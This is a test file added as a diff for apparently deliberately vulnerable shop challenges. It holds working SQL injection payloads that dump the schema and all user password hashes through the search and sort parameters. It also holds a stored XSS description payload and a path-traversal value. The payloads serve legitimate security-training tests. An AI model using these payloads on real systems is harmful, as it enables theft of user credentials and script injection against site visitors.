@@ -1,0 +1,68 @@
+import { describe, expect, it } from 'vitest'
+import { createTestShop } from '../../test-support/test-shop.js'
+
+const t = createTestShop()
+const search = async (q: string) => await t.api.get('/rest/products/search').query({ q })
+// Nine columns, like Products: id, name, description, price, deluxePrice, image, createdAt, updatedAt, deletedAt.
+const union = (select: string) => `xyz')) UNION SELECT ${select}--`
+
+describe('searchSchemaDumpChallenge', () => {
+  it('is solved when a search answer carries the CREATE TABLE text of Users', async () => {
+    const res = await search(union("1, name, sql, 0, 0, '', '', '', NULL FROM sqlite_master WHERE type = 'table'"))
+    expect(res.status).toBe(200)
+    expect(res.body.data.some((row: { description: string }) => /CREATE TABLE Users/.test(row.description))).toBe(true)
+    expect(await t.solved('searchSchemaDumpChallenge')).toBe(true)
+  })
+})
+
+describe('searchUnionUsersChallenge', () => {
+  it('is not solved by a UNION that returns only some users', async () => {
+    const res = await search(union("id, email, password, 0, 0, '', '', '', NULL FROM Users WHERE id < 3"))
+    expect(res.status).toBe(200)
+    expect(await t.solved('searchUnionUsersChallenge')).toBe(false)
+  })
+
+  it('is solved by a UNION that returns every e-mail with its password hash', async () => {
+    const res = await search(union("id, email, password, 0, 0, '', '', '', NULL FROM Users"))
+    expect(res.status).toBe(200)
+    expect(res.body.data.some((row: { name: string, description: string }) => row.name === t.email('admin') && row.description === '3fc0a7acf087f549ac2b266baf94b8b1')).toBe(true)
+    expect(await t.solved('searchUnionUsersChallenge')).toBe(true)
+  })
+})
+
+describe('productSortInjectionChallenge', () => {
+  it('sorts normally by a column name, and 400s a repeated sort', async () => {
+    const res = await t.api.get('/api/Products/').query({ sort: 'price' })
+    const prices = (res.body.data as Array<{ price: number }>).map(p => p.price)
+    expect(prices).toEqual([...prices].sort((a, b) => a - b))
+    expect((await t.api.get('/api/Products/?sort=a&sort=b')).status).toBe(400)
+    expect(await t.solved('productSortInjectionChallenge')).toBe(false)
+  })
+
+  it('is solved by a sub-select in the ORDER BY clause', async () => {
+    const res = await t.api.get('/api/Products/').query({ sort: "(CASE WHEN (SELECT substr(password, 1, 1) FROM Users WHERE id = 1) = 'd' THEN price ELSE name END)" })
+    expect(res.status).toBe(200)
+    expect(await t.solved('productSortInjectionChallenge')).toBe(true)
+  })
+})
+
+describe('productXssChallenge', () => {
+  it('needs a login to add a product, and refuses bad input', async () => {
+    expect((await t.api.post('/api/Products').send({ name: 'x', description: 'y', price: 1 })).status).toBe(401)
+    const { token } = await t.login(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
+    for (const body of [{}, { name: '', description: 'y', price: 1 }, { name: 'x', description: 'y', price: -1 }, { name: 'x', description: 'y', price: '1' }, { name: 'x'.repeat(101), description: 'y', price: 1 }, { name: 'x', description: 'y', price: 1, image: '../../etc/passwd' }]) {
+      expect((await t.api.post('/api/Products').set('Authorization', `Bearer ${token}`).send(body)).status, JSON.stringify(body)).toBe(400)
+    }
+    const plain = await t.api.post('/api/Products').set('Authorization', `Bearer ${token}`).send({ name: 'Plain Water', description: '<p>Just water.</p>', price: 0.5 })
+    expect(plain.status).toBe(201)
+    expect(await t.solved('productXssChallenge')).toBe(false)
+  })
+
+  it('is solved when a customer creates a product whose description runs script', async () => {
+    const { token } = await t.login(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
+    const res = await t.api.post('/api/Products').set('Authorization', `Bearer ${token}`).send({ name: 'XSS Juice', description: '<iframe src="javascript:alert(`xss`)">', price: 1 })
+    expect(res.status).toBe(201)
+    expect((await t.api.get(`/api/Products/${res.body.data.id}`)).body.data.description).toContain('javascript:')
+    expect(await t.solved('productXssChallenge')).toBe(true)
+  })
+})
